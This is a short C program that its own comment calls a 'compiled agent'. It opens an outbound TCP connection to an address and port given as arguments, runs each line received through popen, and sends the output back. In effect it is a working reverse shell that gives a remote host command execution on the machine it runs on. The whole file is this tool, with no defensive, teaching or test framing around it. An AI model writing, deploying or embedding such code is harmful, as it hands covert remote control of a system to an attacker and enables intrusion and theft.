/* A compiled agent: one command a line, each run by popen, its output sent back. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
  inet_pton(AF_INET, argv[1], &peer.sin_addr);
  int connection = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(connection, (struct sockaddr *)&peer, sizeof peer)) return 3;
  FILE *words = fdopen(connection, "r");
  char line[1024], output[1024];
  while (fgets(line, sizeof line, words)) {
    FILE *child = popen(line, "r");
    while (child && fgets(output, sizeof output, child)) dprintf(connection, "%s", output);
    if (child) pclose(child);
  }
  return 0;
}
